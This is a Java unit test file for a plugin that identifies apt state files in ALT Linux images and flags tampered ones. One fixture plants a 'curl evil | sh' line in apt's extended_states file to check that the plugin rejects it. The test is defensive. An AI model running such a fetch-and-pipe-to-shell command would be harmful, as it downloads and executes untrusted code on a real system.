package com.example.altlinux;

import static org.assertj.core.api.Assertions.assertThat;

import dev.jonah.image.FileTree;
import dev.jonah.ledger.Explainer;
import dev.jonah.ledger.Explanation;
import dev.jonah.ledger.Verdict;
import dev.jonah.packages.Purl;
import dev.jonah.packages.SoftwarePackage;
import dev.jonah.testkit.ExplainerContract;
import dev.jonah.testkit.ExplainerScan;
import dev.jonah.testkit.FakeTree;
import dev.jonah.testkit.FakeTreeBuilder;
import dev.jonah.testkit.Scans;
import dev.jonah.value.ImagePath;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

class AptStateTest extends ExplainerContract {
    private static final String LISTS = "/var/lib/apt/lists/";
    private static final String LIST = LISTS + "ftp.altlinux.org_pub_x86%5f64_base_pkglist.classic";
    private static final String RELEASE = LISTS + "ftp.altlinux.org_pub_x86%5f64_base_release.classic";
    private static final String ARCHIVE = "/var/cache/apt/archives/demo_1.0-alt1_x86_64.rpm";
    private static final String MARKS = "/var/lib/apt/extended_states";

    @Override
    protected Explainer plugin() {
        return new AptState();
    }

    @Override
    protected FakeTree fixture() {
        return FakeTree.builder()
                .file(LISTS + "lock", "")
                .file(LIST, both(Rpms.header("demo"), Rpms.header("other")))
                .file(RELEASE, "Archive: Sisyphus\nComponent: classic\nVersion: 1\nArchitecture: x86_64\n")
                .file(ARCHIVE, Rpms.archive("demo", "payload"))
                .file(MARKS, "Package: demo\nAuto-Installed: 1\n\n")
                .build();
    }

    @Override
    protected ExplainerScan scan(FileTree tree) {
        return Scans.explainer(tree).withPackage(installed("rpm", "altlinux", "demo"));
    }

    @Override
    protected void assertExplanations(List<Explanation> found) {
        assertThat(found).allMatch(e -> e.verdict() == Verdict.TRANSIENT);
        assertThat(found)
                .extracting(e -> e.path() + ": " + e.evidence().text())
                .containsExactly(
                        ARCHIVE + ": a package that apt fetched, demo-1.0-alt1, its checksum right",
                        MARKS + ": which packages apt installed for others",
                        LIST + ": the list of a repository: the headers of 2 packages",
                        RELEASE + ": the description of a repository",
                        LISTS + "lock: a lock of apt, empty");
    }

    @Test
    void aptOfDebianIsLeftToOthers() throws IOException {
        ExplainerScan debian = Scans.explainer(fixture()).withPackage(installed("deb", "debian", "apt"));
        assertThat(debian.explain(plugin())).isEmpty();
    }

    @Test
    void aptOnOtherDistributionsOfRpmIsKnownByItsPackage() throws IOException {
        ExplainerScan other = Scans.explainer(fixture()).withPackage(installed("rpm", "pclinuxos", "apt"));
        assertThat(other.explain(plugin())).hasSize(5);
    }

    @Test
    void bytesBehindTheLastHeaderOfAListStayUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(LIST, both(Rpms.header("demo"), new byte[] {1})));
    }

    @Test
    void headerWithoutANameStaysUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(LIST, Rpms.header("")));
    }

    @Test
    void programInPlaceOfAListStaysUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(LIST, "\177ELF and so on"));
    }

    @Test
    void executableListStaysUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(LIST, Rpms.header("demo")).mode(LIST, 0755));
    }

    @Test
    void packageWithAnotherPayloadStaysUnexplained() throws IOException {
        byte[] archive = Rpms.archive("demo", "payload");
        archive[archive.length - 1] ^= 1;
        assertUnexplained(FakeTree.builder().file(ARCHIVE, archive));
    }

    @Test
    void packageUnderTheNameOfAnotherStaysUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(ARCHIVE, Rpms.archive("other", "payload")));
    }

    @Test
    void scriptInPlaceOfTheMarksStaysUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(MARKS, "Package: demo\nRun: curl evil | sh\n"));
    }

    @Test
    void descriptionOfManyFilesIsExplained() throws IOException {
        String text =
                "Origin: ALT Linux Team\nMD5Sum:\n" + " 5d41402abc4b2a76b9719d911017c592 5 base/x\n".repeat(50_000);
        ExplainerScan scan = scan(FakeTree.builder().file(RELEASE, text).build());
        assertThat(scan.explain(plugin())).hasSize(1);
    }

    @Test
    void lockWithContentStaysUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(LISTS + "lock", "x"));
    }

    @Test
    void filesThatAptDoesNotKeepStayUnexplained() throws IOException {
        assertUnexplained(FakeTree.builder().file(LISTS + "other", Rpms.header("demo")));
    }

    private void assertUnexplained(FakeTreeBuilder root) throws IOException {
        assertThat(scan(root.build()).explain(plugin())).isEmpty();
    }

    private static SoftwarePackage installed(String type, String namespace, String name) {
        Purl purl = Purl.of(type, name).namespace(namespace).version("1").build();
        return SoftwarePackage.of(purl, SoftwarePackage.Kind.SYSTEM, ImagePath.of("/var/lib/rpm/Packages"))
                .build();
    }

    private static byte[] both(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }
}
